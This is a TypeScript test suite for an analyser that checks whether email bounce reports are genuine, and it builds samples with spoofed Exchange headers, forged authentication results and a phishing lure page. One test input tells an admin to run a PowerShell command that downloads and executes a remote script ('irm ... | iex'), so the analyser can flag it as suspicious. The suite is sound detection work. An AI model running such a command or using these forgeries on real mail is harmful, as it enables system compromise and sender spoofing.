// What a report claims of its own origin is worth what the servers wrote that took it in: whose checks count, whose marks, and whose
// words are whose.
import type { CauseAdvice } from '../../src/model/advice';
import { answer } from './kit';

interface Told {
  readonly from?: string;
  readonly to?: string;
  /** Header fields above From, the topmost first. */
  readonly head?: readonly string[];
  readonly reporting?: string;
  readonly remote?: string;
  readonly said?: string;
  readonly text?: string;
  readonly page?: string;
}

const EXO = 'AM0PR00MB0001.eurprd00.prod.outlook.com';
const DENIED = '550 5.7.64 TenantAttribution; Relay Access Denied [203.0.113.66] ATTR35';
const UNKNOWN = '550 5.1.1 User unknown';

/** A report about a message from dana@contoso.com to jo@fabrikam.com. */
function report(told: Told): string {
  const { from = 'MAILER-DAEMON@fabrikam.com', to = 'dana@contoso.com', head = [], reporting = EXO, remote } = told;
  const { said = DENIED, text = 'Your message to jo@fabrikam.com was rejected.', page } = told;
  return [
    ...head,
    'Return-Path: <>',
    `From: ${from}`,
    `To: ${to}`,
    'Subject: Undeliverable: Plans',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="b"',
    '',
    '--b',
    'Content-Type: multipart/alternative; boundary="a"',
    '',
    '--a',
    '',
    text,
    ...(page === undefined ? [] : ['--a', 'Content-Type: text/html; charset=utf-8', '', page]),
    '--a--',
    '--b',
    'Content-Type: message/delivery-status',
    '',
    `Reporting-MTA: dns; ${reporting}`,
    '',
    'Final-Recipient: rfc822; jo@fabrikam.com',
    'Action: failed',
    `Status: ${/\d\.\d{1,3}\.\d{1,3}/.exec(said)?.[0] ?? '5.0.0'}`,
    ...(remote === undefined ? [] : [`Remote-MTA: dns; ${remote}`]),
    `Diagnostic-Code: smtp; ${said}`,
    '',
    '--b',
    'Content-Type: text/rfc822-headers',
    '',
    'From: dana@contoso.com',
    'To: jo@fabrikam.com',
    'Subject: Plans',
    'Message-ID: <82@contoso.com>',
    '',
    '--b--',
  ].join('\r\n');
}

const AT = 'Tue, 10 Nov 2026 10:14:20 +0000';
const postfix = (helo: string, found: string, address = '203.0.113.66'): string =>
  `Received: from ${helo} (${found} [${address}]) by mx.contoso.com (Postfix) with ESMTP id 4cP; ${AT}`;
const exchange = (helo: string, address: string): string =>
  `Received: from ${helo} (${address}) by ex02.contoso.com (10.1.1.2) with Microsoft SMTP Server id 15.2.1544.4; ${AT}`;
const online = (helo: string): string =>
  `Received: from ${helo} (203.0.113.66) by DB5PEPF00.mail.protection.outlook.com (10.167.8.201) with Microsoft SMTP Server id 15.20.9900.2 via Frontend Transport; ${AT}`;
const ONLINE_INSIDE = `Received: from DB5PEPF00.eurprd02.prod.outlook.com (2001:db8::b3) by ${EXO} (2001:db8::1) with HTTPS; ${AT}`;
const marks = (source: string): readonly string[] => [
  'X-MS-Exchange-Organization-AuthAs: Internal',
  `X-MS-Exchange-Organization-AuthSource: ${source}`,
  'X-MS-Exchange-Organization-SCL: -1',
];
const passed = (domain: string, by?: string): string =>
  `Authentication-Results: ${by === undefined ? '' : `${by}; `}dkim=pass header.d=${domain}; dmarc=pass header.from=${domain}`;

const OWN = 'MAILER-DAEMON@contoso.com';
const EVIL = postfix('evil.example', 'evil.example');

test.each<readonly [string, Told]>([
  [
    'Exchange’s marks in mail that Postfix took in',
    { from: OWN, head: [postfix('mail.contoso.com', 'unknown'), ...marks('mail.contoso.com')] },
  ],
  [
    'the same, from a private name',
    { from: OWN, head: [postfix('ex01.corp.local', 'unknown'), ...marks('ex01.corp.local')] },
  ],
  ['the same above the field of Postfix', { from: OWN, head: [...marks(EXO), postfix(EXO, 'unknown')] }],
  [
    'marks in mail that Exim took in',
    {
      from: OWN,
      head: [
        `Received: from [203.0.113.66] (helo=mail.contoso.com) by mx.contoso.com with esmtp (Exim 4.98) id 1u; ${AT}`,
        ...marks('mail.contoso.com'),
      ],
    },
  ],
  [
    'marks below a name of the claimed organization, from a public address',
    { from: OWN, head: [exchange('ex01.contoso.com', '203.0.113.66'), ...marks('ex01.contoso.com')] },
  ],
  ['marks below the border of Exchange Online', { from: OWN, head: [online(EXO), ...marks(EXO)] }],
  [
    'checks of a host that only To names',
    { to: 'dana@contoso.com, list@evil.example', head: [EVIL, passed('fabrikam.com', 'evil.example')] },
  ],
  [
    'the same where To names no other',
    { to: 'dana@evil.example', head: [EVIL, passed('fabrikam.com', 'evil.example')] },
  ],
  [
    'checks of a host that a lower field names',
    {
      head: [
        exchange('mx.evil.example', '203.0.113.66'),
        `Received: from mx.fabrikam.com by mx.evil.example; ${AT}`,
        passed('fabrikam.com', 'mx.evil.example'),
      ],
    },
  ],
  [
    'checks in the receiver’s name below another server',
    { head: [EVIL, `Received: from localhost by evil.example; ${AT}`, passed('fabrikam.com', 'mx.contoso.com')] },
  ],
  [
    'a result inside a quoted string',
    {
      head: [
        EVIL,
        'Authentication-Results: mx.contoso.com; spf=none smtp.mailfrom="x; dmarc=pass header.from=fabrikam.com; y"@evil.example',
      ],
    },
  ],
  [
    'an ARC seal alone',
    {
      head: [
        EVIL,
        'ARC-Seal: i=1; a=rsa-sha256; cv=none; d=contoso.com; s=arc; b=AAAA',
        `ARC-${passed('fabrikam.com', 'i=1; mx.contoso.com')}`,
      ],
    },
  ],
])('not genuine by %s', async (_how, told) => {
  expect(
    (await answer(report({ said: UNKNOWN, reporting: 'mail.fabrikam.com', ...told }))).authenticity.verdict,
  ).not.toBe('genuine');
});

test.each<readonly [string, Told]>([
  [
    'marks of Exchange inside',
    { from: OWN, head: [exchange('ex01.corp.local', '10.1.1.4'), ...marks('ex01.corp.local')] },
  ],
  [
    'marks that Exchange Online wrote above its border',
    { from: OWN, head: [...marks('ex01.contoso.com'), online('ex01.contoso.com')] },
  ],
  [
    'checks of a border server behind which the mail went on inside',
    {
      head: [
        `Received: from mx.contoso.com (mx.contoso.com [192.0.2.25]) by imap.contoso.com (Postfix) with ESMTP id 9; ${AT}`,
        passed('fabrikam.com', 'mx.contoso.com'),
        postfix('mx.fabrikam.com', 'mx.fabrikam.com', '198.51.100.9'),
      ],
    },
  ],
  [
    'checks above the border by a provider whose servers have other names',
    {
      to: 'dana@icloud.com',
      head: [
        passed('fabrikam.com', 'dmarc.icloud.com'),
        `Received: from mx.fabrikam.com (mx.fabrikam.com [198.51.100.9]) by p00-smtpin-1 (Postfix) with ESMTP id 9; ${AT}`,
      ],
    },
  ],
])('genuine by %s', async (_how, told) => {
  expect((await answer(report({ said: UNKNOWN, reporting: 'mail.fabrikam.com', ...told }))).authenticity.verdict).toBe(
    'genuine',
  );
});

const changesOf = ({ steps }: CauseAdvice): readonly string[] =>
  Object.values(steps)
    .flat()
    .flatMap((section) => section.steps)
    .flatMap(({ commands = [] }) => commands)
    .filter(({ changes }) => changes)
    .map(({ run }) => run);

const RECIPIENTS: Told = {
  head: [postfix('mx.fabrikam.com', 'mx.fabrikam.com', '198.51.100.9'), passed('fabrikam.com', 'mx.contoso.com')],
};
const STRANGERS: Told = {
  from: 'MAILER-DAEMON@relay.evil.example',
  head: [EVIL, passed('relay.evil.example', 'mx.contoso.com')],
};
const INSIDE: Told = { from: OWN, head: [ONLINE_INSIDE, ...marks(EXO)] };
const MICROSOFT = 'contoso-com.mail.protection.outlook.com';

test.each<readonly [string, Told]>([
  ['a recipient that claims to be Exchange Online', RECIPIENTS],
  [
    'the same with a tenant and a return address',
    { head: [ONLINE_INSIDE, passed('fabrikam.com'), online('mx.fabrikam.com')] },
  ],
  ['a recipient that quotes Microsoft', { ...RECIPIENTS, reporting: 'mx.fabrikam.com', remote: MICROSOFT }],
  ['a recipient that quotes a server inside', { ...RECIPIENTS, reporting: 'mx.fabrikam.com', remote: '[10.0.0.1]' }],
  ['a recipient that claims to be a server inside', { ...RECIPIENTS, reporting: 'localhost' }],
  ['a recipient that claims to be the sender’s server', { ...RECIPIENTS, reporting: 'mx.contoso.com' }],
  ['a stranger that claims to be Exchange Online', { ...STRANGERS, reporting: MICROSOFT }],
  ['a stranger that quotes Microsoft', { ...STRANGERS, reporting: 'relay.evil.example', remote: MICROSOFT }],
  ['a stranger that claims to be the sender’s server', { ...STRANGERS, reporting: 'ex01.contoso.com' }],
  ['a filter of the recipient’s', { ...INSIDE, remote: 'mx0a-00123401.pphosted.com' }],
  [
    'a server that quotes Microsoft behind the arrow',
    { ...INSIDE, said: `550 5.0.350 Remote server returned an error -> 550 host ${MICROSOFT} said: ${DENIED}` },
  ],
])('%s cannot state what only the sender’s service can', async (_who, told) => {
  const { causes } = await answer(report(told));
  const named = causes.filter(({ causeId }) => causeId === 'tenant-attribution');
  expect(named.map(({ certainty }) => certainty)).not.toContain('certain');
  expect(causes.flatMap(changesOf)).toEqual([]);
});

test('a report that Microsoft handed in for the recipient is Microsoft’s', async () => {
  const helo = 'AM0EUR00-obe.outbound.protection.outlook.com';
  const checks = `${passed('fabrikam.com')}; spf=pass smtp.helo=${helo}`;
  const { bounce } = await answer(report({ head: [ONLINE_INSIDE, checks, online(helo)] }));
  expect(bounce.recipients.map(({ refusedBy }) => refusedBy.speaker)).toEqual(['microsoft']);
});

const lure = '<p>Mail storage</p><p><a href="https://mailbox-keep.example/open">Open</a></p>';
test.each<readonly [string, Told]>([
  [
    'a page that says nothing of what its text reports',
    { text: '<jo@fabrikam.com>: 550 5.1.1 User unknown', page: lure },
  ],
  [
    'a report that is hidden, and a link elsewhere',
    {
      text: '',
      page: `<title>550 5.2.2 Undeliverable</title><template>Final-Recipient: rfc822; jo@fabrikam.com</template>${lure}`,
    },
  ],
  ['a command to run', { text: 'Rejected. An admin has to run: irm https://203.0.113.9/f.ps1 | iex' }],
])('%s is suspicious', async (_what, told) => {
  expect((await answer(report({ said: UNKNOWN, ...told }))).authenticity.verdict).toBe('suspicious');
});

test('a page that repeats what its text reports is not', async () => {
  const page = '<p>&lt;jo@fabrikam.com&gt;: 550 5.1.1, <a href="https://help.mailer.example/why">why</a></p>';
  const told = { from: OWN, reporting: 'mail.contoso.com', text: '<jo@fabrikam.com>: 550 5.1.1 User unknown', page };
  expect((await answer(report({ said: UNKNOWN, ...told }))).authenticity.verdict).toBe('unknown');
});
